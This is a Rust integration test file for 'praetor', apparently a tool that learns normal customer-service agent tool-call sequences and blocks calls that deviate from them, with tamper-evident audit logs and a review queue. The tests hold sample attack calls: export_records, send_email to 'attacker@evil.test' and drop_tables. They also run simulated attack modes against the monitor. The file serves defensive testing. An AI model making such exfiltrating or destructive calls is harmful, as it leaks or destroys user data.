use std::io::{BufRead, BufReader, Write};
use std::os::unix::net::UnixStream;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::time::{Duration, Instant};

use serde_json::Value;
use tempfile::TempDir;

fn praetor() -> Command {
    let mut c = Command::new(env!("CARGO_BIN_EXE_praetor"));
    // Keep host settings from leaking into flag defaults.
    for (k, _) in std::env::vars() {
        if k.starts_with("PRAETOR_") {
            c.env_remove(k);
        }
    }
    c
}

fn run(args: &[&str]) -> Output {
    praetor().args(args).output().expect("binary runs")
}

fn json_of(out: &Output) -> Value {
    serde_json::from_slice(&out.stdout)
        .unwrap_or_else(|e| panic!("stdout is not JSON ({e}): {}", String::from_utf8_lossy(&out.stdout)))
}

fn p(path: &Path) -> &str {
    path.to_str().expect("utf-8 path")
}

/// Generates a seeded customer-service corpus and compiles it.
fn compiled(dir: &TempDir) -> (PathBuf, PathBuf) {
    let traces = dir.path().join("traces.jsonl");
    let profile = dir.path().join("profile.bin");
    let g = run(&["generate", "--n", "300", "--seed", "5", "--out", p(&traces)]);
    assert!(g.status.success(), "{}", String::from_utf8_lossy(&g.stderr));
    let c = run(&[
        "compile",
        "--traces",
        p(&traces),
        "--out",
        p(&profile),
        "--embedding-dim",
        "64",
    ]);
    assert_eq!(c.status.code(), Some(0), "{}", String::from_utf8_lossy(&c.stderr));
    (traces, profile)
}

fn write_lines(path: &Path, lines: &[&str]) {
    std::fs::write(path, lines.join("\n") + "\n").unwrap();
}

#[test]
fn help_exits_zero_for_every_subcommand() {
    assert_eq!(run(&["--help"]).status.code(), Some(0));
    for sub in [
        "compile",
        "inspect",
        "enumerate-paths",
        "serve",
        "check",
        "verify-audit",
        "export-root",
        "review",
        "update",
        "simulate",
        "bench",
        "generate",
    ] {
        let out = run(&[sub, "--help"]);
        assert_eq!(out.status.code(), Some(0), "{sub} --help");
        assert!(String::from_utf8_lossy(&out.stdout).contains("Usage"), "{sub}");
    }
}

#[test]
fn unknown_subcommand_is_a_usage_error() {
    let out = run(&["frobnicate"]);
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("Usage"));
}

#[test]
fn missing_input_file_is_a_usage_error() {
    let dir = TempDir::new().unwrap();
    let out = run(&["inspect", p(&dir.path().join("nope.bin"))]);
    assert_eq!(out.status.code(), Some(2));
}

#[test]
fn compile_reports_json_and_writes_sidecar() {
    let dir = TempDir::new().unwrap();
    let (_, profile) = compiled(&dir);
    assert!(dir.path().join("profile.bin.digests").is_file());

    let out = run(&["inspect", p(&profile), "--edges"]);
    assert_eq!(out.status.code(), Some(0));
    let v = json_of(&out);
    assert!(v["states"].as_u64().unwrap() > 1);
    assert_eq!(v["edges"].as_u64().unwrap() as usize, v["transitions"].as_array().unwrap().len());
    assert_eq!(v["params"]["w"], 3);

    let out = run(&["enumerate-paths", p(&profile), "--k", "2", "--target", "send_email"]);
    assert_eq!(out.status.code(), Some(0));
    let v = json_of(&out);
    assert_eq!(v["k"], 2);
    assert!(v["total_paths"].as_u64().unwrap() > 0);
}

#[test]
fn compile_rejects_malformed_traces() {
    let dir = TempDir::new().unwrap();
    let traces = dir.path().join("bad.jsonl");
    write_lines(&traces, &[r#"{"session_id": "a", "timestamp": 1, "tool": "x"}"#]);
    let out = run(&["compile", "--traces", p(&traces), "--out", p(&dir.path().join("p.bin"))]);
    assert_eq!(out.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&out.stderr).contains("params"));
}

#[test]
fn check_audit_verify_and_tamper() {
    let dir = TempDir::new().unwrap();
    let (traces, profile) = compiled(&dir);

    let out = run(&["check", "--profile", p(&profile), "--traces", p(&traces), "--summary-only"]);
    assert_eq!(out.status.code(), Some(0));
    assert_eq!(json_of(&out)["summary"]["blocked"], 0, "training traces replay cleanly");

    let attacks = dir.path().join("attacks.jsonl");
    write_lines(
        &attacks,
        &[
            r#"{"session_id": "x1", "timestamp": 1, "tool": "export_records", "params": {}}"#,
            r#"{"session_id": "x2", "timestamp": 2, "tool": "send_email", "params": {"to": "attacker@evil.test"}}"#,
            r#"{"session_id": "x3", "timestamp": 3, "tool": "read_ticket", "params": {"ticket_id": 99999999}}"#,
        ],
    );
    let log = dir.path().join("audit.log");
    let out = run(&["check", "--profile", p(&profile), "--traces", p(&attacks), "--audit", p(&log)]);
    assert_eq!(out.status.code(), Some(0));
    let v = json_of(&out);
    assert_eq!(v["summary"]["blocked"], 3);
    let reasons: Vec<&str> = v["decisions"]
        .as_array()
        .unwrap()
        .iter()
        .map(|d| d["reason"].as_str().unwrap())
        .collect();
    assert_eq!(reasons, ["unknown_tool", "no_transition", "guard_failure"]);

    let out = run(&["verify-audit", p(&log)]);
    assert_eq!(out.status.code(), Some(0));
    assert_eq!(json_of(&out)["length"], 3);

    let root = dir.path().join("root.json");
    let out = run(&["export-root", p(&log), "--out", p(&root)]);
    assert_eq!(out.status.code(), Some(0));
    assert_eq!(json_of(&out)["length"], 3);
    assert_eq!(run(&["verify-audit", p(&log), "--root", p(&root)]).status.code(), Some(0));

    let mut bytes = std::fs::read(&log).unwrap();
    let second_line = bytes.iter().position(|&b| b == b'\n').unwrap() + 1;
    bytes[second_line + 5] ^= 0x01;
    let tampered = dir.path().join("tampered.log");
    std::fs::write(&tampered, &bytes).unwrap();
    let out = run(&["verify-audit", p(&tampered)]);
    assert_eq!(out.status.code(), Some(1));
    let v = json_of(&out);
    assert_eq!(v["ok"], false);
    assert_eq!(v["broken_index"], 1);

    // A truncated log verifies on its own but not against the exported root.
    let first_only = &std::fs::read(&log).unwrap()[..second_line];
    let truncated = dir.path().join("truncated.log");
    std::fs::write(&truncated, first_only).unwrap();
    assert_eq!(run(&["verify-audit", p(&truncated)]).status.code(), Some(0));
    assert_eq!(run(&["verify-audit", p(&truncated), "--root", p(&root)]).status.code(), Some(1));
}

#[test]
fn review_and_update_round_trip() {
    let dir = TempDir::new().unwrap();
    let (_, profile) = compiled(&dir);
    let queue = dir.path().join("queue.jsonl");
    let fragment = dir.path().join("fragment.jsonl");
    write_lines(
        &fragment,
        &[
            r#"{"session_id": "f", "timestamp": 1, "tool": "read_ticket", "params": {"ticket_id": 10001}}"#,
            r#"{"session_id": "f", "timestamp": 2, "tool": "close_ticket", "params": {"ticket_id": 10001}}"#,
        ],
    );
    let out = run(&["check", "--profile", p(&profile), "--traces", p(&fragment), "--summary-only"]);
    assert_eq!(json_of(&out)["summary"]["blocked"], 1, "fragment is novel before the update");

    let q = p(&queue);
    let out = run(&["review", "--queue", q, "enqueue", "--fragment", p(&fragment), "--blocked-index", "0"]);
    assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
    assert_eq!(json_of(&out)["status"], "pending");
    let out = run(&["review", "--queue", q, "approve", "0", "--note", "known workflow"]);
    assert_eq!(json_of(&out)["status"], "approved");
    assert_eq!(run(&["review", "--queue", q, "approve", "0"]).status.code(), Some(1));
    assert_eq!(run(&["review", "--queue", q, "reject", "7"]).status.code(), Some(1));
    let list = json_of(&run(&["review", "--queue", q, "list"]));
    assert_eq!(list.as_array().unwrap().len(), 1);
    assert!(json_of(&run(&["review", "--queue", q, "list", "--pending"])).as_array().unwrap().is_empty());

    let updated = dir.path().join("updated.bin");
    let out = run(&["update", "--profile", p(&profile), "--queue", q, "--out", p(&updated)]);
    assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
    assert_eq!(json_of(&out)["report"]["fragments_applied"], serde_json::json!([0]));
    assert!(dir.path().join("updated.bin.digests").is_file());

    let out = run(&["check", "--profile", p(&updated), "--traces", p(&fragment), "--summary-only"]);
    assert_eq!(json_of(&out)["summary"]["blocked"], 0, "approved fragment is accepted");
}

#[test]
fn simulate_and_bench_emit_reports() {
    let out = run(&["simulate", "--mode", "context-seq", "--n", "20", "--seed", "3", "--embedding-dim", "64"]);
    assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
    let v = json_of(&out);
    assert_eq!(v["report"]["attempts"], 20);
    assert_eq!(v["report"]["executed"], 0);

    let out = run(&["simulate", "--mode", "graybox", "--n", "10", "--k", "0.5", "--embedding-dim", "64"]);
    assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
    assert_eq!(json_of(&out)["reports"].as_array().unwrap().len(), 1);

    assert_eq!(run(&["simulate", "--mode", "splice", "--scenario", "nope"]).status.code(), Some(2));

    let out = run(&["bench", "--sizes", "10,50", "--calls", "500"]);
    assert_eq!(out.status.code(), Some(0));
    let rows = json_of(&out);
    assert_eq!(rows.as_array().unwrap().len(), 2);
    assert_eq!(rows[1]["states"], 50);
}

#[test]
fn serve_answers_over_the_socket() {
    let dir = TempDir::new().unwrap();
    let (_, profile) = compiled(&dir);
    let socket = dir.path().join("praetor.sock");
    let audit = dir.path().join("audit.log");
    let mut child = praetor()
        .args(["serve", "--profile", p(&profile), "--socket", p(&socket), "--audit", p(&audit)])
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();

    let deadline = Instant::now() + Duration::from_secs(20);
    let stream = loop {
        match UnixStream::connect(&socket) {
            Ok(s) => break s,
            Err(_) if Instant::now() < deadline => std::thread::sleep(Duration::from_millis(50)),
            Err(e) => {
                let _ = child.kill();
                panic!("server never came up: {e}");
            }
        }
    };
    let mut reader = BufReader::new(stream.try_clone().unwrap());
    let mut ask = |line: &str| {
        (&stream).write_all(format!("{line}\n").as_bytes()).unwrap();
        let mut resp = String::new();
        reader.read_line(&mut resp).unwrap();
        serde_json::from_str::<Value>(&resp).unwrap()
    };
    let ok = ask(r#"{"session_id": "s", "tool": "read_ticket", "params": {"ticket_id": 10010}}"#);
    let blocked = ask(r#"{"session_id": "s", "tool": "drop_tables", "params": {}}"#);
    let bad = ask("not json");
    let _ = child.kill();
    let _ = child.wait();

    assert_eq!(ok["decision"], "allow");
    assert_eq!(blocked["decision"], "block");
    assert_eq!(blocked["reason"], "unknown_tool");
    assert_eq!(bad["decision"], "error");
    assert_eq!(run(&["verify-audit", p(&audit)]).status.code(), Some(0));
}
